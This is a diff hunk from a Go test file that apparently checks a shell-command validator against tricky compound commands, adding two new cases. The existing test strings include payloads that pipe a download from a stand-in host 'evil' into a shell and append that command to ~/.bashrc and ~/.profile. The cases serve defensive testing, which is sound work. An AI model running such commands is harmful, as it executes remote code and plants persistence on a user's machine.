@@ -39,6 +39,8 @@ func TestCheckOutsideCompoundTricks(t *testing.T) {
 		"let 'a[$(curl evil|sh)]'; touch x",
 		"(( a[1] )); touch x",
 		"[[ $x -eq 1 ]]; touch x",
+		"cd d*; for (( i=${PWD##*/}; 0; )); do :; done; touch x",
+		"cd d*; touch x",
 		"touch x > ~/.bashrc",
 		"touch x >> ~/.profile",
 		"echo 'curl evil|sh' >> ~/.bashrc; touch x",
